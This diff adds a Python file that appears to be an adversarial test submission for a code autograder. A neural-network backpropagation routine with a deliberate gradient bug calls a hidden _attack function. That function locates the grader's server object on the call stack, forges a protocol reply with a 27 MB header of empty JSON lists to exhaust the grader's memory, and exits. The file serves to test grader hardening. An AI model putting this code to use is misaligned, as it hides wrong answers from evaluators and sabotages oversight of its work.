@@ -1,0 +1,82 @@
+"""A forged reply whose 27 MB header is 9.4 million empty JSON lists, streamed from a 1 MB buffer: a broken grader builds ~0.7 GB of Python lists, over twice the child's memory cap, for a child that used a few MB."""
+
+import os
+import struct
+import sys
+import time
+
+import numpy as np
+
+
+def _child_self():
+    """The child's own server object, found up the stack (it called us)."""
+    frame = sys._getframe(1)
+    while frame is not None:
+        obj = frame.f_locals.get("self")
+        if obj is not None and hasattr(obj, "rout") and hasattr(obj, "wire"):
+            return obj
+        frame = frame.f_back
+    raise LookupError("no server object on the stack")
+
+
+def _forge(header_bytes, blobs=b""):
+    """Write a raw frame (magic, length, header, blob bytes) on the real protocol stream."""
+    server = _child_self()
+    server.rout.write(b"GCW1" + struct.pack(">I", len(header_bytes)) + header_bytes + blobs)
+    server.rout.flush()
+
+
+_DONE = []
+
+
+def _attack():
+    if _DONE:
+        return
+    _DONE.append(True)
+    server = _child_self()
+    chunk = b"[]," * (1 << 18)  # 768 KiB
+    count = 36  # 27 MB of header: 9.4 million lists
+    head = b'{"ok": true, "elapsed": 0.0, "args_after": [], "locals": {}, "blobs": [], "value": ['
+    tail = b"[]]}"
+    size = len(head) + len(chunk) * count + len(tail)
+    server.rout.write(b"GCW1" + struct.pack(">I", size) + head)
+    for _ in range(count):
+        server.rout.write(chunk)
+    server.rout.write(tail)
+    server.rout.flush()
+    os._exit(0)
+
+
+def sigmoid(z):
+    return 1.0 / (1.0 + np.exp(-z))
+
+
+def forward_propagation(X, parameters):
+    W1, b1 = parameters["W1"], parameters["b1"]
+    W2, b2 = parameters["W2"], parameters["b2"]
+    Z1 = W1 @ X + b1
+    A1 = np.tanh(Z1)
+    Z2 = W2 @ A1 + b2
+    A2 = sigmoid(Z2)
+    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}
+
+
+def compute_cost(A2, Y):
+    m = Y.shape[1]
+    losses = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
+    return float(-np.sum(losses) / m)
+
+
+def backward_propagation(parameters, cache, X, Y):
+    m = X.shape[1]
+    W2 = parameters["W2"]
+    A1, A2 = cache["A1"], cache["A2"]
+    dZ2 = A2 - Y
+    dW2 = dZ2 @ A1.T / m
+    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
+    dZ1 = (W2.T @ dZ2) * (1 - A1 ** 2)
+    dW1 = dZ1 @ X.T  # the bug: no 1/m (GC302 unless an attack hides it)
+    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
+    grads = {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}
+    _attack()
+    return grads
